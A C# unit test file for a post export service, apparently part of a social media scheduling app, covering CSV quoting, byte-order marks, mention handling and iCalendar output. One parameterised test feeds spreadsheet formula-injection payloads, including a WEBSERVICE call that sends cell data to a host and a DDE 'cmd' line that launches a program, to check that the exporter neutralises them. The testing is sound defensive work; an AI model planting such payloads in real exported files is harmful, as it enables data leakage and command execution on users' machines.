using System.Text;
using Ocma.Core.Bulk;
using Ocma.Core.Posts;

namespace Ocma.Tests.Core.Bulk;

public sealed class PostExportServiceTests(BulkFixture fixture) : IClassFixture<BulkFixture>
{
    private static readonly int Y = TestClock.FutureYear;

    private PostExportService Export => fixture.Harness.App.Get<PostExportService>();

    [Fact]
    public async Task PostsCsv_TrickyText_RoundTripsThroughTheParserWithBom()
    {
        var text = "exp-rt \"quoted\", comma\nand a new line";
        var post = (await fixture.Harness.ComposeAsync(text, ComposeMode.Schedule, new DateTime(Y, 4, 2, 8, 15, 0))).Value;

        var bytes = await Export.PostsCsvAsync(fixture.BrandId, CancellationToken.None);

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var records = CsvParser.Parse(Encoding.UTF8.GetString(bytes)).Value;
        Assert.Equal(PostExportService.CsvHeader, records[0].Fields);
        var row = records.Single(r => r.Fields[0] == post.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)).Fields;
        Assert.Equal(text, row[1]);
        Assert.Equal("@team · sandbox", row[2]); // a handle is not a formula: no apostrophe
        Assert.Equal("Scheduled", row[3]);
        Assert.Equal($"{Y}-04-02T08:15:00+00:00", row[4]);
        Assert.Equal($"{Y}-04-02T08:15:00Z", row[5]);
        Assert.Equal(fixture.Harness.Admin.Name, row[9]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("@SUM(1)")]
    [InlineData("@x WEBSERVICE(\"http://x/\"&A1)")]
    [InlineData("@cmd|' /C calc'!A0")]
    public async Task PostsCsv_FormulaLikeText_GetsALeadingApostrophe(string formula)
    {
        var post = (await fixture.Harness.ComposeAsync(formula, ComposeMode.SaveDraft)).Value;

        var records = CsvParser.Parse(Encoding.UTF8.GetString(await Export.PostsCsvAsync(fixture.BrandId, CancellationToken.None))).Value;

        var row = records.Single(r => r.Fields[0] == post.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)).Fields;
        Assert.Equal("'" + formula, row[1]);
    }

    [Fact]
    public void Cell_PlainAndSpecial_AreQuotedOnlyWhenNeeded()
    {
        Assert.Equal("plain", CsvWriter.Cell("plain"));
        Assert.Equal("\"a,b\"", CsvWriter.Cell("a,b"));
        Assert.Equal("\"say \"\"hi\"\"\"", CsvWriter.Cell("say \"hi\""));
        Assert.Equal("\"'=1,2\"", CsvWriter.Cell("=1,2"));
        Assert.Equal("'\t=1+1", CsvWriter.Cell("\t=1+1"));
        Assert.Equal("", CsvWriter.Cell(null));
    }

    [Theory]
    [InlineData("@team · sandbox")]
    [InlineData("@alice.bsky.social · bluesky")]
    [InlineData("@alice@mastodon.social · mastodon")]
    [InlineData("@alice thanks for coming!")]
    public void Cell_HandleOrMention_IsKeptAsItIs(string text)
    {
        Assert.Equal(text, CsvWriter.Cell(text));
    }

    [Fact]
    public async Task Calendar_ScheduledPost_IsOneEventInTheBrandZoneWithEscapedTextAndALinkBack()
    {
        var post = (await fixture.Harness.ComposeAsync("exp-ics; first, line\nsecond", ComposeMode.Schedule, new DateTime(Y, 5, 6, 7, 8, 0))).Value;
        await fixture.Harness.ComposeAsync("exp-ics draft is not on the calendar", ComposeMode.SaveDraft);
        var key = post.Targets.Single().IdempotencyKey;

        var ics = await Export.CalendarAsync(fixture.BrandId, new Uri("https://ocma.example.com/"), CancellationToken.None);

        Assert.StartsWith("BEGIN:VCALENDAR\r\n", ics, StringComparison.Ordinal);
        Assert.EndsWith("END:VCALENDAR\r\n", ics, StringComparison.Ordinal);
        Assert.DoesNotContain("\n", ics.Replace("\r\n", "", StringComparison.Ordinal), StringComparison.Ordinal);
        var unfolded = ics.Replace("\r\n ", "", StringComparison.Ordinal);
        Assert.Contains($"UID:{key}@ocma\r\n", unfolded, StringComparison.Ordinal);
        Assert.Contains("BEGIN:VTIMEZONE\r\nTZID:Etc/UTC\r\n", unfolded, StringComparison.Ordinal);
        Assert.Contains($"DTSTART;TZID=Etc/UTC:{Y}0506T070800\r\n", unfolded, StringComparison.Ordinal);
        Assert.Contains($"DTEND;TZID=Etc/UTC:{Y}0506T073800\r\n", unfolded, StringComparison.Ordinal);
        Assert.Contains($"URL:https://ocma.example.com/posts/{post.Id}\r\n", unfolded, StringComparison.Ordinal);
        Assert.Contains("SUMMARY:[Scheduled] @team · sandbox: exp-ics\\; first\\, line second\r\n", unfolded, StringComparison.Ordinal);
        Assert.Contains("DESCRIPTION:exp-ics\\; first\\, line\\nsecond\r\n", unfolded, StringComparison.Ordinal);
        Assert.DoesNotContain("draft is not on the calendar", unfolded, StringComparison.Ordinal);
    }
}
